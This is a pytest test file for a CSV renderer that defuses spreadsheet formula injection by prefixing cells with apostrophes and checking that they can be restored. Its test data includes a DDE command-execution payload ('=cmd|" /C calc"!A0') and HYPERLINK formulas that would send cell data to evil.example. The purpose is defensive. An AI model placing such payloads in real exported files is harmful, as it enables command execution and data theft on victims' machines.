"""Items as CSV: every item a line, every text recoverable, no cell a formula."""

import csv
import re
from io import StringIO
from itertools import takewhile

import pytest
from hypothesis import given
from hypothesis import strategies as st

from brewslm.render.csv import plain, render_csv
from tests.render.evaluations import HOSTILE, item

FORMULA_CHARACTERS = frozenset("=+-@＝＋－＠")
FORMULAS = [
    "=1+1",
    '=cmd|" /C calc"!A0',
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\u00a0\u200b=1",
    "\ufeff=1",
    "＝1",
    "＋1",
    "－1",
    "＠1",
    "'=1",
    '=HYPERLINK("http://evil.example?"&A1)',
]


@pytest.fixture(autouse=True)
def wide_cells() -> None:
    """Let the reader take cells of more than 128 KiB."""
    csv.field_size_limit(1 << 24)


def read(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(StringIO(data.decode(), newline="")))


def original(cell: str) -> str:
    """Undo what `plain` did, by the rule that it states."""
    parts = re.split("([,;\t\r\n])", cell.removeprefix("'"))
    return parts[0] + "".join(map(without_apostrophe, parts[1:]))


def without_apostrophe(part: str) -> str:
    """Take the first of the apostrophes before a formula character that can be seen first."""
    blanks = list(takewhile(lambda char: char == '"' or is_blank(char), part))
    rest = part[len(blanks) :]
    is_guarded = rest.lstrip("'")[:1] in FORMULA_CHARACTERS
    return "".join(blanks) + (rest.removeprefix("'") if is_guarded else rest)


def is_blank(char: str) -> bool:
    return char.isspace() or not char.isprintable()


def assert_no_formula(data: bytes) -> list[dict[str, str]]:
    """Check what spreadsheets make of a file, wherever they part its lines; return its lines."""
    for separator in (",", ";", "\t"):
        for line in csv.reader(StringIO(data.decode(), newline=""), delimiter=separator):
            for cell in line:
                assert not begins_formula(cell), (separator, cell)
    rows = read(data)
    assert not any(cell[:1] in {"\t", "\r", "\n"} for row in rows for cell in row.values())
    return rows


def begins_formula(cell: str) -> bool:
    return next((char for char in cell if not is_blank(char)), "") in FORMULA_CHARACTERS


@pytest.mark.case("RND-05")
@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_what_could_be_a_formula_is_a_text(text: str) -> None:
    (row,) = assert_no_formula(render_csv([item(text, values={text: 0.5})]))
    assert row["output"].startswith("'")
    assert original(row["output"]) == text
    assert row[plain(text)] == "0.5", "a header is a cell, too"


@pytest.mark.case("RND-05")
@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('hi;=HYPERLINK("http://evil.example")', 'hi;\'=HYPERLINK("http://evil.example")'),
        ("x\n=1+1", "x\n'=1+1"),
        ("x\r+1", "x\r'+1"),
        ("a\t@b", "a\t'@b"),
        ("1, -2", "1, '-2"),
        (';" \u200b"=1', ';" \u200b"\'=1'),
        (";'=1", ";''=1"),
        (";=1;=2", ";'=1;'=2"),
        ("\n=1", "'\n'=1"),
        ("=1;=2", "'=1;'=2"),
        ("a;b=1", "a;b=1"),
        ("x-1 = 'y'", "x-1 = 'y'"),
    ],
)
def test_what_follows_a_separator_of_other_spreadsheets_is_a_text(text: str, cell: str) -> None:
    assert plain(text) == cell
    assert original(cell) == text
    assert_no_formula(render_csv([item(text, values={text: 0.5})]))


@pytest.mark.case("RND-05")
@pytest.mark.parametrize("text", [*HOSTILE[:-1], "a,b;c\"d'e"], ids=ascii)
def test_hostile_texts_stay_in_their_cells(text: str) -> None:
    first, second = assert_no_formula(render_csv([item(text), item("next")]))
    assert original(first["output"]) == text
    assert second["output"] == "next"


def test_numbers_of_our_own_stay_numbers() -> None:
    (row,) = read(render_csv([item("a", score=-0.5, values={"margin": -2.25}, line=None)]))
    assert (row["score"], row["margin"], row["line"], row["new_tokens"]) == (
        "-0.5",
        "-2.25",
        "",
        "1",
    )


def test_a_cell_of_a_megabyte_is_whole() -> None:
    huge = "=" * (1 << 20)
    (row,) = read(render_csv([item("x", output=huge, prompt="'" * (1 << 20))]))
    assert row["output"] == f"'{huge}"
    assert row["prompt"] == "'" * ((1 << 20) + 1)


def test_half_a_character_is_shown() -> None:
    (row,) = read(render_csv([item("\ud800")]))
    assert row["output"] == "\\ud800"


def test_metrics_that_some_items_lack_are_empty_there() -> None:
    rows = read(render_csv([item("a", values={"f1": 1.0}), item("b", values={"em": 0.0})]))
    assert [(row["em"], row["f1"]) for row in rows] == [("", "1.0"), ("0.0", "")]


def test_lines_end_as_the_standard_says() -> None:
    data = render_csv([item("a")])
    assert data.endswith(b"\r\n")
    assert data.count(b"\r\n") == 2
    assert data.startswith(b"dataset,row_id,"), "no byte order mark"


@given(st.lists(st.text() | st.text("=-'\";,\t\r\n\u200b＝ a"), min_size=1, max_size=5))
def test_any_text_comes_back_and_no_spreadsheet_finds_a_formula(texts: list[str]) -> None:
    rows = assert_no_formula(render_csv([item(text) for text in texts]))
    cells = [row["output"] for row in rows]
    assert cells == [plain(text) for text in texts]
    assert [original(cell) for cell in cells] == texts
